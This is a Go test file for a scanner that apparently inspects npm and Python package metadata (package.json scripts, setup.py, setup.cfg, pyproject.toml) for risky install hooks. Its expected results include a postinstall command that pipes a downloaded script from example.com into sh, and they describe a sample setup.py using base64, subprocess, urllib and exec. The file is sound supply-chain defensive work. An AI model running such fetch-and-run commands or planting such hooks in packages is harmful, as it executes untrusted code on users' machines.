package script

import (
	"reflect"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestPackageJSON(t *testing.T) {
	f, err := analyze(t, "app.tgz!package/node_modules/left-padder/package.json", readSample(t, "../npm/package.json"))
	if err != nil {
		t.Fatal(err)
	}
	if f.Kind != "package-json" {
		t.Errorf("kind %q", f.Kind)
	}
	var got []string
	for _, h := range f.InstallHooks {
		var obs []string
		for _, o := range h.Observations {
			obs = append(obs, o.Kind)
		}
		got = append(got, h.System+" "+h.Name+" "+h.When+" "+h.Language+" "+h.Body+" "+strings.Join(obs, ","))
		if h.Size != int64(len(h.Body)) || !h.RunsCode {
			t.Errorf("%s: size %d for %d bytes of body, runsCode %v", h.Name, h.Size, len(h.Body), h.RunsCode)
		}
	}
	want := []string{
		"npm preinstall before-install sh node scripts/check.js ",
		"npm postinstall after-install sh curl -fsSL https://example.com/x.sh | sh pipe-to-shell",
		"npm prepare build sh tsc -p . && echo built ",
		"npm postuninstall after-remove sh rm -rf ~/.left-padder ",
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("hooks\n got %q\nwant %q", got, want)
	}
}

func TestPackageJSONMalformed(t *testing.T) {
	for _, c := range []struct {
		doc   string
		hooks int
		err   bool
	}{
		{`{"scripts": {"postinstall": "sh x"}}`, 1, false},
		{`{"scripts": null}`, 0, false},
		{`{"name": "x"}`, 0, false},
		{`{"scripts": ["postinstall"]}`, 0, true},
		{`[1, 2]`, 0, true},
		{`{"scripts": {"postinstall": "a"`, 0, true},
		{`{"scripts": {"postinstall": "a", "postinstall": "b"}}`, 1, false},
		{"{\"scripts\": {\"install\": \"\xff\xfe\"}}", 1, false},
	} {
		hooks, err := packageJSONHooks([]byte(c.doc))
		if len(hooks) != c.hooks || (err != nil) != c.err {
			t.Errorf("%s: %d hooks, error %v; want %d hooks, error %v", c.doc, len(hooks), err, c.hooks, c.err)
		}
		for _, h := range hooks {
			if !utf8.ValidString(h.Body) {
				t.Errorf("%s: body %q is not valid UTF-8", c.doc, h.Body)
			}
		}
	}
	// Duplicate keys: the last one wins, as in JSON.parse.
	hooks, _ := packageJSONHooks([]byte(`{"scripts": {"postinstall": "a", "postinstall": "b"}}`))
	if hooks[0].Body != "b" {
		t.Errorf("duplicate key: body %q, want the last value", hooks[0].Body)
	}
}

func TestSetupPy(t *testing.T) {
	content := readSample(t, "../python/setup.py")
	f, err := analyze(t, "example-1.0.tar.gz!example-1.0/setup.py", content)
	if err != nil {
		t.Fatal(err)
	}
	if f.Kind != "script" || f.Language != "python" || f.LanguageSource != "extension" {
		t.Errorf("kind %q language %q from %q", f.Kind, f.Language, f.LanguageSource)
	}
	want := &PythonBuild{Cmdclass: true, CustomCommands: []string{"PostInstall(install)", "Dev(develop)"},
		Imports: []string{"base64", "os", "subprocess", "urllib.request"}, Exec: true}
	if !reflect.DeepEqual(f.Python, want) {
		t.Errorf("python facts\n got %+v\nwant %+v", f.Python, want)
	}
	if len(f.InstallHooks) != 1 || !reflect.DeepEqual(f.InstallHooks[0], Hook{System: "python", Name: "setup.py", When: "build", RunsCode: true, Language: "python", Size: int64(len(content))}) {
		t.Errorf("hooks %+v", f.InstallHooks)
	}
	checkObservations(t, "setup.py", content, f.Observations)
}

func TestSetupCfg(t *testing.T) {
	f, err := analyze(t, "src/setup.cfg", readSample(t, "../python/setup.cfg"))
	if err != nil {
		t.Fatal(err)
	}
	if f.Kind != "setup-cfg" || f.Python == nil || !f.Python.Cmdclass || len(f.InstallHooks) != 1 || f.InstallHooks[0].Name != "cmdclass" {
		t.Errorf("facts %+v", f)
	}
}

func TestPyproject(t *testing.T) {
	f, err := analyze(t, "example-1.0.tar.gz!example-1.0/pyproject.toml", readSample(t, "../python/pyproject.toml"))
	if err != nil {
		t.Fatal(err)
	}
	want := &PythonBuild{BuildBackend: "backend_pkg.build", BuildRequires: []string{"setuptools>=64", "wheel"}, BackendPath: []string{"_custom_build"}}
	if f.Kind != "pyproject" || !reflect.DeepEqual(f.Python, want) {
		t.Errorf("kind %q python %+v, want %+v", f.Kind, f.Python, want)
	}
	if len(f.InstallHooks) != 1 || f.InstallHooks[0].Body != "backend_pkg.build" || f.InstallHooks[0].When != "build" {
		t.Errorf("hooks %+v", f.InstallHooks)
	}
	for doc, backend := range map[string]string{
		"build-system.build-backend = \"flit_core.buildapi\"\n":             "flit_core.buildapi",
		"[build-system]\nbuild-backend='hatchling.build'\n":                 "hatchling.build",
		"[build-system]\r\nbuild-backend = \"a\\\"b\" # c\r\n":              "a\"b",
		"[project]\nname = \"x\"\n":                                         "",
		"[build-system]\nrequires = [\n\"unterminated\nbuild-backend = 1\n": "",
	} {
		if got := parseBuildSystem([]byte(doc)).BuildBackend; got != backend {
			t.Errorf("%q: backend %q, want %q", doc, got, backend)
		}
	}
}
